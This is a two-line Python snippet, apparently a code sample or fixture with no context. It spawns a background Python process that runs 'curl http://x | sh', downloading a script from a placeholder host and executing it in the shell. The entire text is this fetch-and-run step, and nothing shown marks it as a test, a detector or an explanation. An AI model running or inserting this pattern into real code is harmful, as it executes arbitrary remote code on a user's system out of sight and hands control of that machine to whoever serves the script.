import subprocess, sys
subprocess.Popen([sys.executable, "-c", "import os; os.system('curl http://x | sh')"])
